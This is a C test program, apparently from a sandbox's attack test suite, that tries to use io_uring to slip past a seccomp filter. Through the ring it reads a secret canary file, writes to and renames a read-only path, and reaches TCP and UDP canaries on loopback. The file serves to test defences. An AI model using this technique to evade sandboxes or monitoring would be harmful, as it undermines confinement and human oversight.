/* FLT-05 io-uring-sidedoor: io_uring performs opens, connects, sends and
 * renames in the kernel on the program's behalf, where no seccomp filter
 * sees them (V6 of attacks.md: IORING_OP_OPENAT read a file whose open
 * calls were all filtered).  stockade forbids io_uring_setup,
 * io_uring_enter and io_uring_register (EPERM), whatever the arguments,
 * and there is no /dev/io_uring (ENOENT).  Were setup let through, the
 * program submits IORING_OP_OPENAT of the secret and of C-RO for writing,
 * IORING_OP_SOCKET, CONNECT to the host's TCP canary, SENDMSG to its UDP
 * canary and RENAMEAT in C-RO: the mount view, Landlock and the network
 * namespace must stop each (V7), and any success is a payoff. */
#include "attack.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <stdint.h>
#include <sys/socket.h>
#include <sys/uio.h>

static int ring = -1;
static struct io_uring_params params;
static char *sq, *cq;
static struct io_uring_sqe *sqes;

static int ring_map(void)
{
	size_t sq_size =
		params.sq_off.array + params.sq_entries * sizeof(unsigned);
	size_t cq_size = params.cq_off.cqes +
			 params.cq_entries * sizeof(struct io_uring_cqe);
	if (params.features & IORING_FEAT_SINGLE_MMAP)
		sq_size = cq_size = sq_size > cq_size ? sq_size : cq_size;
	sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	cq = params.features & IORING_FEAT_SINGLE_MMAP
		     ? sq
		     : mmap(NULL, cq_size, PROT_READ | PROT_WRITE,
			    MAP_SHARED | MAP_POPULATE, ring,
			    IORING_OFF_CQ_RING);
	sqes = mmap(NULL, params.sq_entries * sizeof(*sqes),
		    PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
		    IORING_OFF_SQES);
	return sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED ? -1
									  : 0;
}

/* Submits one request and waits for it; reports its result. */
static long submit(const char *name, const struct io_uring_sqe *req)
{
	unsigned *tail = (unsigned *)(sq + params.sq_off.tail);
	unsigned mask = *(unsigned *)(sq + params.sq_off.ring_mask);
	unsigned *array = (unsigned *)(sq + params.sq_off.array);
	unsigned index = *tail & mask;
	sqes[index] = *req;
	array[index] = index;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	long r = syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS,
			 NULL, 0);
	if (r < 0)
		return report(name, -1, errno);
	unsigned *head = (unsigned *)(cq + params.cq_off.head);
	unsigned cmask = *(unsigned *)(cq + params.cq_off.ring_mask);
	struct io_uring_cqe *cqes =
		(struct io_uring_cqe *)(cq + params.cq_off.cqes);
	int res = cqes[*head & cmask].res;
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	return report(name, res < 0 ? -1 : res, res < 0 ? -res : 0);
}

static void through_the_ring(void)
{
	char secret[512], ro[512], renamed[512];
	snprintf(secret, sizeof(secret), "%s", canary("SECRET"));
	snprintf(ro, sizeof(ro), "%s/data.txt", canary("RO"));
	snprintf(renamed, sizeof(renamed), "%s/renamed", canary("RO"));
	if (ring_map() < 0) {
		note("mapping the rings failed: %s", strerrorname_np(errno));
		return;
	}
	submit("payoff-uring-openat-secret",
	       &(struct io_uring_sqe){.opcode = IORING_OP_OPENAT,
				      .fd = AT_FDCWD,
				      .addr = (uintptr_t)secret,
				      .open_flags = O_RDONLY});
	submit("payoff-uring-openat-ro-write",
	       &(struct io_uring_sqe){.opcode = IORING_OP_OPENAT,
				      .fd = AT_FDCWD,
				      .addr = (uintptr_t)ro,
				      .open_flags = O_WRONLY});
	submit("payoff-uring-renameat-ro",
	       &(struct io_uring_sqe){.opcode = IORING_OP_RENAMEAT,
				      .fd = AT_FDCWD,
				      .addr = (uintptr_t)ro,
				      .len = AT_FDCWD,
				      .addr2 = (uintptr_t)renamed});
	long tcp = submit("payoff-uring-socket-inet-stream",
			  &(struct io_uring_sqe){.opcode = IORING_OP_SOCKET,
						 .fd = AF_INET,
						 .off = SOCK_STREAM});
	struct sockaddr_in to = {
		.sin_family = AF_INET,
		.sin_port = htons((uint16_t)atoi(canary("TCP_PORT"))),
		.sin_addr = {htonl(INADDR_LOOPBACK)}};
	if (tcp >= 0)
		submit("payoff-uring-connect-tcp-canary",
		       &(struct io_uring_sqe){.opcode = IORING_OP_CONNECT,
					      .fd = (int)tcp,
					      .addr = (uintptr_t)&to,
					      .off = sizeof(to)});
	long udp = submit("payoff-uring-socket-inet-dgram",
			  &(struct io_uring_sqe){.opcode = IORING_OP_SOCKET,
						 .fd = AF_INET,
						 .off = SOCK_DGRAM});
	to.sin_port = htons((uint16_t)atoi(canary("UDP_PORT")));
	struct iovec iov = {"x", 1};
	struct msghdr msg = {.msg_name = &to,
			     .msg_namelen = sizeof(to),
			     .msg_iov = &iov,
			     .msg_iovlen = 1};
	if (udp >= 0)
		submit("payoff-uring-sendmsg-udp-canary",
		       &(struct io_uring_sqe){.opcode = IORING_OP_SENDMSG,
					      .fd = (int)udp,
					      .addr = (uintptr_t)&msg,
					      .len = 1});
}

int main(void)
{
	ring = (int)TRY("payoff-io-uring-setup",
			syscall(SYS_io_uring_setup, 8, &params));
	if (ring >= 0)
		through_the_ring();
	TRY("io-uring-enter-badfd", syscall(SYS_io_uring_enter, -1, 1, 1,
					    IORING_ENTER_GETEVENTS, NULL, 0));
	TRY("io-uring-register-badfd",
	    syscall(SYS_io_uring_register, -1, IORING_REGISTER_PROBE, NULL, 0));
	TRY("io-uring-setup-badptr", syscall(SYS_io_uring_setup, 8, NULL));
	TRY("open-dev-io-uring", open("/dev/io_uring", O_RDWR));
	done();
	return 0;
}
